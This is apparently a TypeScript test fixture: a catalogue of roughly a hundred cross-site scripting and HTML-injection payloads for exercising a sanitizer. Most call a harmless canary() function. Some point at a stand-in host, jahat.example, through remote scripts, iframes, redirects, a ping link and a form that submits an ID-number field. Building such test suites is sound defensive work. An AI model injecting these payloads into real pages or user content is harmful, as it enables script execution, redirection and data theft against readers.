/**
 * Attempts to run something in a reader's browser, load something, lead somewhere, or disturb the page. What would run
 * calls `canary()`; what would load or lead somewhere names the address "umpan".
 */
export interface Attack {
  readonly name: string;
  readonly code: string;
  /** What stands behind it belongs to it for every HTML parser, so those words may go with it. */
  readonly swallows?: true;
}

const code = (name: string, code: string): Attack => ({ name, code });
const open = (name: string, code: string): Attack => ({ name, code, swallows: true });

const SCRIPTS = [
  code('a script', '<script>canary()</script>'),
  code('a script from elsewhere', '<script src="https://jahat.example/umpan.js"></script>'),
  code('a module', '<script type="module">canary()</script>'),
  code('a script in capitals', '<ScRiPt>canary()</sCrIpT>'),
  code('a script with a slash', '<script/x>canary()</script/x>'),
  code('a script inside a script', '<scr<script>ipt>canary()</scr</script>ipt>'),
  code('a script after a stray bracket', '<<script>canary()//<</script>'),
  open('a script that never ends', '<script>canary()'),
  code('a script in a comment that ends oddly', '<!--><script>canary()</script>-->'),
  code('a comment that ends with a bang', '<!-- --!><img src=x onerror=canary()> -->'),
  code('a script in a CDATA section', '<svg><![CDATA[</svg><img src=x onerror=canary()>]]></svg>'),
  code('a processing instruction', '<?xml version="1.0"?><?x <img src=x onerror=canary()> ?>'),
];

const HANDLERS = [
  code('a picture that fails', '<img src=x onerror=canary()>'),
  code('a picture that fails, without spaces', '<img/src=x/onerror=canary()>'),
  code('a picture that fails, with line breaks', '<img\nsrc=x\nonerror\n=\ncanary()>'),
  code('a handler behind a slash and a quote', '<img src="x"onerror="canary()">'),
  code('a handler in backticks', '<img src=`x` onerror=`canary()`>'),
  code('a handler of entities', '<img src=x onerror="&#99;&#97;nary&lpar;&rpar;">'),
  code(
    'a handler on a paragraph',
    '<p onmouseover="canary()" onclick="canary()" onfocus="canary()" tabindex=0 autofocus>x</p>',
  ),
  code('a handler of an animation', '<p style="animation-name:x" onanimationstart="canary()">x</p>'),
  code('a handler of a fold', '<details open ontoggle=canary()><summary>x</summary></details>'),
  code(
    'a handler of a film',
    '<video><source onerror="canary()"></video><audio src=x onerror=canary()></audio>',
  ),
  code(
    'a handler that takes focus',
    '<input autofocus onfocus=canary()><select autofocus onfocus=canary()></select>',
  ),
  code('a handler of a body', '<body onload=canary() onpageshow=canary()>'),
  code('a handler of a scrolling text', '<marquee onstart=canary()>x</marquee>'),
  code('a handler with control characters', '<img src=x o\u0001nerror=canary() \u000bonerror=canary()>'),
  code(
    'a handler of something unknown',
    '<xss onbeforetoggle=canary() popover>x</xss><x onpointerrawupdate=canary()>x</x>',
  ),
  open('a handler in an open tag', '<img src=x onerror=canary() '),
];

const LINKS = [
  code('a link to a script', '<a href="javascript:canary()">x</a>'),
  code('a link to a script in mixed case', '<a href="JaVaScRiPt:canary()">x</a>'),
  code('a link to a script with a tab', '<a href="java\tscript:canary()">x</a>'),
  code('a link to a script with line breaks', '<a href="\njava\nscript\n:canary()">x</a>'),
  code('a link to a script of entities', '<a href="&#x6A;&#97;vascript&colon;canary&lpar;&rpar;">x</a>'),
  code('a link to a script with a hidden tab', '<a href="java&Tab;script&colon;canary()">x</a>'),
  code('a link to a script behind a control character', '<a href="&#1;javascript:canary()">x</a>'),
  code('a link to a script behind a wide space', '<a href="\u3000javascript:canary()">x</a>'),
  code('a link to a page of its own', '<a href="data:text/html,<script>canary()</script>">x</a>'),
  code('a link to an old script', '<a href="vbscript:canary()">x</a><a href="livescript:canary()">x</a>'),
  code('a link that looks like another', '<a href="https://kepegawaian.example@jahat.example/umpan">x</a>'),
  code('a link with a ping', '<a href="/" ping="https://jahat.example/umpan">x</a>'),
  code(
    'a map with a script',
    '<img usemap="#m" src=x><map name="m"><area shape="default" href="javascript:canary()"></map>',
  ),
  code(
    'a source of a quotation',
    '<blockquote cite="javascript:canary()">x</blockquote><q cite="javascript:canary()">x</q>',
  ),
  code(
    'a background',
    '<table background="javascript:canary()"><tr><td background="/umpan.png">x</td></tr></table>',
  ),
];

const FOREIGN = [
  code('a drawing that loads', '<svg onload=canary()></svg>'),
  code('a script in a drawing', '<svg><script>canary()</script></svg>'),
  code('a script of entities in a drawing', '<svg><script>&#99;anary()</script></svg>'),
  code('a link in a drawing', '<svg><a xlink:href="javascript:canary()"><text y="20">x</text></a></svg>'),
  code(
    'a link that a drawing sets',
    '<svg><a><animate attributeName=href values="javascript:canary()"/><text y=20>x</text></a></svg>',
  ),
  code('an animation that begins', '<svg><animate onbegin=canary() attributeName=x dur=1s></svg>'),
  code(
    'a drawing that uses another',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22canary()%22/>#x"/></svg>',
  ),
  code(
    'HTML in a drawing',
    '<svg><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></foreignObject></svg>',
  ),
  code(
    'a style in a drawing that hides a tag',
    '<svg></p><style><a id="</style><img src=x onerror=canary()>"></style></svg>',
  ),
  code(
    'a formula with a link',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:canary()">x</maction></math>',
  ),
  code(
    'a formula that changes its mind',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;"></style></mglyph></table></mtext></math>',
  ),
  code(
    'a formula in a form in a formula',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()></style></mglyph></form></math>',
  ),
  code(
    'a formula with an annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary()></style></annotation-xml></math>',
  ),
];

const RAW_TEXT = [
  code(
    'a tag in an attribute of a noscript',
    '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>',
  ),
  code('a tag in an attribute of a style', '<style><p title="</style><img src=x onerror=canary()>"></style>'),
  code('a tag in a text area', '<textarea><p title="</textarea><img src=x onerror=canary()>"></textarea>'),
  code('a tag in a title', '<title><p title="</title><img src=x onerror=canary()>"></title>'),
  code('a tag in an xmp', '<xmp><p title="</xmp><img src=x onerror=canary()>"></xmp>'),
  code('a tag in a noembed', '<noembed><p title="</noembed><img src=x onerror=canary()>"></noembed>'),
  code('a template', '<template><script>canary()</script><img src=x onerror=canary()></template>'),
  code('a shadow', '<p><template shadowrootmode="open"><img src=x onerror=canary()></template></p>'),
  code('a list of choices', '<select><option><img src=x onerror=canary()></option></select>'),
  open('a plain text that never ends', '<plaintext><img src=x onerror=canary()>'),
  open('a comment that never ends', '<!-- <img src=x onerror=canary()>'),
];

const PAGES = [
  code('a frame with a page of its own', '<iframe srcdoc="<script>parent.canary()</script>"></iframe>'),
  code('a frame that is a script', '<iframe src="javascript:parent.canary()"></iframe>'),
  code('a frame from elsewhere', '<iframe src="https://jahat.example/umpan"></iframe>'),
  code('a frame set', '<frameset onload=canary()><frame src="javascript:canary()"></frameset>'),
  code(
    'an object',
    '<object data="javascript:canary()"></object><object data="data:text/html,<script>canary()</script>"></object>',
  ),
  code(
    'an embedded thing',
    '<embed src="javascript:canary()"><embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22canary()%22/>">',
  ),
  code('an applet', '<applet code="umpan" archive="https://jahat.example/umpan.jar"></applet>'),
  code('a page that moves on', '<meta http-equiv="refresh" content="0;url=https://jahat.example/umpan">'),
  code('a page that becomes a script', '<meta http-equiv="refresh" content="0;url=javascript:canary()">'),
  code('another base', '<base href="https://jahat.example/umpan/">'),
  code(
    'a style sheet from elsewhere',
    '<link rel="stylesheet" href="https://jahat.example/umpan.css"><link rel="preload" as="image" href="/umpan.png">',
  ),
  code(
    'an import of a style',
    '<style>@import "https://jahat.example/umpan.css"; body{display:none}</style>',
  ),
  code(
    'a style that covers the page',
    '<p style="position:fixed;inset:0;z-index:9;background:url(https://jahat.example/umpan.png)">x</p>',
  ),
  code(
    'an expression',
    '<p style="width:expression(canary());behavior:url(/umpan.htc);-moz-binding:url(/umpan)">x</p>',
  ),
  code(
    'a picture from elsewhere',
    '<img src="https://jahat.example/umpan.gif" srcset="https://jahat.example/umpan2.gif 2x"><picture><source srcset="/umpan.webp"></picture>',
  ),
  code(
    'a picture that is a drawing',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22canary()%22/>">',
  ),
];

const FORMS = [
  code('a form', '<form action="https://jahat.example/umpan" id=f><input name=nik><button>x</button></form>'),
  code('a form that is a script', '<form action="javascript:canary()"><input type=submit value=x></form>'),
  code(
    'a button of another form',
    '<button form="f" formaction="javascript:canary()">x</button><input type=image src=/umpan.png formaction="javascript:canary()">',
  ),
  code(
    'names that stand in for functions',
    '<p id="canary">x</p><img name="getElementById"><a id="__proto__">x</a><form id="document" name="body"><input name="cookie"></form>',
  ),
  code(
    'data for widgets',
    '<p class="newsroom-trouble" data-api="https://jahat.example" data-humas-theme="x" slot="x" is="x">x</p>',
  ),
  code(
    'an island',
    '<astro-island component-url="/umpan.js" renderer-url="/umpan.js" client="load" props="{}">x</astro-island>',
  ),
];

const WORDS = [
  code('an end of the script around it', '</script><script>canary()</script>'),
  open('an end of the script around it, open', '</script ><img src=x onerror=canary()><!--'),
  code('a line separator', '\u2028canary()\u2029'),
  code(
    'an end of a quotation',
    `" onmouseover="canary()" autofocus onfocus="canary()" x="'><img src=x onerror=canary()>`,
  ),
  code('an end of a title', '</title><script>canary()</script>'),
  code('an end of an island', `"></astro-island><script>canary()</script>`),
  code(
    'brackets that look like others',
    '\uff1cscript\uff1ecanary()\uff1c/script\uff1e ‹script›canary()‹/script›',
  ),
  code(
    'brackets written twice',
    '&lt;script&gt;canary()&lt;/script&gt; &amp;lt;img src=x onerror=canary()&amp;gt;',
  ),
  code(
    'an expression of a template',
    `{{constructor.constructor("canary()")()}} \${canary()} #{canary()} <%= canary() %>`,
  ),
  code('words that turn around', 'gratis \u202egpj.exe\u202c \u2066ini\u2069 \u202dlurus'),
  code('words that nobody sees', 'ja\u200bvasc\u200dript\u2060 \u0008\u001b[31m \ufeff x'),
  code('letters that pile up', `z${'\u0335\u0341\u0310'.repeat(12)}algo`),
];

export const ATTACKS: readonly Attack[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FOREIGN,
  ...RAW_TEXT,
  ...PAGES,
  ...FORMS,
  ...WORDS,
];
